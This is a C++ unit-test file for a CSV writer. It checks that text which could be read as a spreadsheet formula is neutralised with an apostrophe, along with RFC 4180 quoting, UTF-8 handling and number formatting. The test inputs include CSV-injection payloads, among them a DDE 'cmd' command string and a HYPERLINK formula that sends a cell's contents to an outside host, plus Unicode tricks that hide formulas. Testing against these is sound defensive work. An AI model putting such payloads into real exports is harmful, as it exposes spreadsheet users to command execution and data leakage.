// CSV that a spreadsheet opens as it was meant.
#include "apps/ringback/csv_writer.h"

#include "gtest/gtest.h"

namespace ringback::cli {
namespace {

std::string Written(std::string_view text) { return CsvCell::Text(text).written(); }

// What a spreadsheet holds in the cell: without the quotes of RFC 4180.
std::string Held(std::string_view text) {
  std::string cell = Written(text);
  if (!cell.starts_with('"')) return cell;
  std::string held;
  for (size_t i = 1; i + 1 < cell.size(); ++i) {
    held += cell[i];
    if (cell[i] == '"') ++i;
  }
  return held;
}

TEST(CsvCell, WhatCouldBeAFormulaIsText) {
  for (const char* hostile :
       {"=1+1", "=cmd|'/C calc'!A0", "+12025550143", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\n=1",
        "=HYPERLINK(\"http://example.com?\"&A1,\"click\")", "  =1+1", "＝1+1", "＋1", "－1",
        "＠SUM(1)", "-", "=", "\u00A0=1", "\u3000＝1", "﹦1", "\u22121"}) {
    const std::string held = Held(hostile);
    EXPECT_EQ(held, std::string("'") + hostile) << hostile;
  }
}

TEST(CsvCell, OtherTextStaysAsItIs) {
  for (const char* plain : {"", "Jones", "Jürgen Öztürk", "1+1=2", "a@example.com", "'quoted'",
                            "東京", "WEB_FORM:autumn page", "2030-W41"}) {
    EXPECT_EQ(Written(plain), plain);
  }
}

TEST(CsvCell, IsInQuotesWhereRfc4180WantsThem) {
  EXPECT_EQ(Written("Jones, Robert"), "\"Jones, Robert\"");
  EXPECT_EQ(Written("a \"b\" c"), "\"a \"\"b\"\" c\"");
  EXPECT_EQ(Written("a\r\nb"), "\"a\nb\"");
  // A semicolon separates in half of Europe.
  EXPECT_EQ(Written("a;=1+1"), "\"a;=1+1\"");
  EXPECT_EQ(Written("a,=1+1"), "\"a,=1+1\"");
  EXPECT_EQ(Written(" a "), "\" a \"");
  EXPECT_EQ(Written("=\"a\""), "\"'=\"\"a\"\"\"");
}

TEST(CsvCell, IsAlwaysUtf8WithoutNul) {
  EXPECT_EQ(Written("a\xFF"), "a\uFFFD");
  EXPECT_EQ(Written(std::string_view("\0=1", 3)), "' =1");
}

TEST(CsvCell, WhatIsHiddenHidesNoFormula) {
  for (const char* hidden : {"\u200B", "\u202E", "\uFEFF", "\u2066", "\u00AD"}) {
    EXPECT_EQ(Written(std::string(hidden) + "=1+1"), "'=1+1");
  }
  EXPECT_EQ(Held("\r=1+1"), "'\n=1+1");
}

TEST(CsvCell, NumbersStayNumbers) {
  EXPECT_EQ(CsvCell::Number(int64_t{-5}).written(), "-5");
  EXPECT_EQ(CsvCell::Number(0.25).written(), "0.25");
  EXPECT_EQ(CsvCell::Number(0.0).written(), "0");
  EXPECT_EQ(CsvCell::Number(12.0).written(), "12");
  EXPECT_EQ(CsvCell::Number(1.0 / 3).written(), "0.3333333333333333");
  EXPECT_EQ(CsvCell::Number(1e15).written(), "1e+15");
}

TEST(CsvLine, EndsInCrLf) {
  EXPECT_EQ(CsvLine({CsvCell::Text("a,b"), CsvCell::Number(int64_t{1}), CsvCell::Text("")}),
            "\"a,b\",1,\r\n");
}

}  // namespace
}  // namespace ringback::cli
